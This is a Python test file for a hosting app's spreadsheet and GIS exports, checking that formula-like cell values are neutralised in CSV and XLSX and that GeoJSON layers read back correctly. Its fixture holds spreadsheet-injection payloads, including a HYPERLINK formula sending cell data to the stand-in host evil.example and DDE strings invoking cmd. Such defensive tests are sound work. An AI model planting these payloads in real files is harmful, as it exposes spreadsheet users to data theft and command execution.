"""CSV, XLSX and GeoJSON of sites and premises: formula cells made inert, GIS-readable layers."""

from __future__ import annotations

import csv
import io
import json

import pyogrio
import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from pyogrio.raw import read as ogr_read
from shapely import from_wkb
from shapely.geometry import Point, shape

from hosting_app.exports.tables import FORMULA_STARTS, neutralise
from hosting_app.sites.models import Premises, Site

SITE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
PREMISES_LABEL = "+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(session, lab):
    """The test site and premises carrying formula-like text in many cells."""
    lab.site.name = SITE_NAME
    lab.site.description = "@SUM(1+1)*cmd|' /C calc'!A0"
    lab.site.address = "\t=1+2"
    lab.premises["near"].label = PREMISES_LABEL
    lab.premises["office"].description = "-2+3+cmd|' /C calc'!A0"
    lab.premises["plot"].description = "\r=4+5"
    session.commit()
    return lab


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+33", "'+33"), ("-2", "'-2"), ("@A1", "'@A1"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("Carré Sénart", "Carré Sénart"), ("", ""), (12, 12), (None, None)],
)  # fmt: skip
def test_neutralise_quotes_every_formula_start(value, expected):
    assert neutralise(value) == expected


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # a BOM: spreadsheets read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_csv_files_escape_formula_cells(client, marketing, hostile):
    response = client.get("/marketing/donnees/sites.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    header, *rows = _csv_rows(response.data)
    (row,) = [r for r in rows if r[0] == "site-d-essai"]
    values = dict(zip(header, row, strict=True))
    assert values["nom"] == "'" + SITE_NAME
    assert values["description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert values["adresse"] == "'\t=1+2"
    assert all(not cell.startswith(FORMULA_STARTS) for r in rows for cell in r)

    header, *rows = _csv_rows(client.get("/marketing/donnees/locaux.csv").data)
    mine = {r[3]: dict(zip(header, r, strict=True)) for r in rows if r[1] == "site-d-essai"}
    assert "'" + PREMISES_LABEL in mine
    assert mine["office"]["description"] == "'-2+3+cmd|' /C calc'!A0"
    assert mine["plot"]["description"] == "'\r=4+5"
    assert mine["plot"]["surface (m²)"] == "5000"  # French decimals: comma, none here
    assert mine["plot"]["démonstration"] == "oui"
    assert all(not cell.startswith(FORMULA_STARTS) for r in rows for cell in r)


def test_xlsx_files_hold_no_formula(client, marketing, hostile, session):
    for url, sheet_name in (("/marketing/donnees/sites.xlsx", "Sites"),
                            ("/marketing/donnees/locaux.xlsx", "Locaux")):  # fmt: skip
        response = client.get(url)
        assert response.status_code == 200
        workbook = load_workbook(io.BytesIO(response.data))
        assert workbook.sheetnames == [sheet_name, "À lire"]
        cells = [cell for row in workbook[sheet_name].iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert all(not text.startswith(FORMULA_STARTS) for text in texts)
        expected = "'" + (SITE_NAME if sheet_name == "Sites" else PREMISES_LABEL)
        assert expected in texts
    sites = load_workbook(io.BytesIO(client.get("/marketing/donnees/sites.xlsx").data))["Sites"]
    assert sites.max_row == 1 + session.scalar(sa.select(sa.func.count()).select_from(Site))


def test_geojson_layers_read_back_with_gdal_in_wgs84(client, marketing, lab, session, tmp_path):
    site_count = session.scalar(sa.select(sa.func.count()).select_from(Site))
    premises_count = session.scalar(sa.select(sa.func.count()).select_from(Premises))
    for url, count in (("/marketing/donnees/sites.geojson", site_count),
                       ("/marketing/donnees/locaux.geojson", premises_count)):  # fmt: skip
        response = client.get(url)
        assert response.status_code == 200
        assert response.mimetype == "application/geo+json"
        assert "crs" not in json.loads(response.data)  # RFC 7946: WGS84 longitude, latitude
        path = tmp_path / url.rsplit("/", 1)[1]
        path.write_bytes(response.data)
        info = pyogrio.read_info(path)
        assert info["features"] == count
        assert info["crs"] == "EPSG:4326"
        _meta, _fids, geometries, _fields = ogr_read(path)
        shapes = [from_wkb(g) for g in geometries if g is not None]
        assert all(-180 <= s.bounds[0] <= s.bounds[2] <= 180 for s in shapes)
        assert all(-90 <= s.bounds[1] <= s.bounds[3] <= 90 for s in shapes)

    collection = json.loads(client.get("/marketing/donnees/sites.geojson").data)
    (mine,) = [f for f in collection["features"] if f["id"] == "site-d-essai"]
    assert shape(mine["geometry"]).contains(Point(2.0, 47.0))
    assert mine["properties"]["position"] == "high"
    unlocated = [f for f in collection["features"] if f["geometry"] is None]
    assert [f["properties"]["nom"] for f in unlocated] == ["Village artisanal (CAMVS)"]

    premises = json.loads(client.get("/marketing/donnees/locaux.geojson").data)["features"]
    (plot,) = [f for f in premises if f["id"] == lab.premises["plot"].id]
    assert plot["properties"]["demonstration"] is True
    assert plot["properties"]["surface_m2"] == 5000
    assert shape(plot["geometry"]).distance(Point(2.0, 47.0)) < 0.05


def test_the_cli_writes_each_data_file(runner, tmp_path):
    for subject, extension in (("sites", "csv"), ("sites", "geojson"), ("premises", "xlsx")):
        path = tmp_path / f"{subject}.{extension}"
        result = runner.invoke(args=["export", subject, str(path)])
        assert result.exit_code == 0, result.output
        assert path.stat().st_size > 100
    bad = runner.invoke(args=["export", "sites", str(tmp_path / "sites.txt")])
    assert bad.exit_code != 0 and "Format inconnu" in bad.output


def test_archived_premises_are_not_exported(client, marketing, lab, session):
    from datetime import UTC, datetime

    lab.premises["office"].archived_at = datetime.now(UTC)
    session.commit()
    header, *rows = _csv_rows(client.get("/marketing/donnees/locaux.csv").data)
    labels = {r[3] for r in rows if r[1] == "site-d-essai"}
    assert "office" not in labels and "near" in labels
    features = json.loads(client.get("/marketing/donnees/locaux.geojson").data)["features"]
    assert lab.premises["office"].id not in {f["id"] for f in features}
